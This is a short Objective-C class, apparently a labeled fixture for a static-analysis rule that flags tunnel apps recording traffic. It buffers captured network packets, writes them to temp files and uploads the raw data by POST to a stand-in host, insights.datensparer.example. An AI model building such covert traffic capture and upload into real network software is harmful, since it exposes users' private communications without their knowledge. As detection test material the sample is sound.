#import "PacketDiary.h"

static const NSUInteger kFull = 1 << 20;

@implementation PacketDiary {
  NSMutableData* _page;
  NSUInteger _number;
}

- (instancetype)init {
  if ((self = [super init])) _page = [NSMutableData data];
  return self;
}

- (void)notePackets:(NSArray<NSData*>*)packets {
  for (NSData* packet in packets) {
    uint32_t length = (uint32_t)packet.length;
    [_page appendBytes:&length length:sizeof length];
    [_page appendData:packet];
  }
  if (_page.length > kFull) [self turnPage];
}

- (void)turnPage {
  _number += 1;
  NSString* path = [NSTemporaryDirectory()
      stringByAppendingPathComponent:[NSString stringWithFormat:@"page%lu", (unsigned long)_number]];
  // expect: enterprise/tunnel-records-traffic
  [_page writeToFile:path atomically:YES];
  NSMutableURLRequest* request = [NSMutableURLRequest
      requestWithURL:[NSURL URLWithString:@"https://insights.datensparer.example/pages"]];
  request.HTTPMethod = @"POST";
  // expect: enterprise/tunnel-records-traffic
  [[NSURLSession.sharedSession uploadTaskWithRequest:request fromData:_page] resume];
  _page = [NSMutableData data];
}

@end
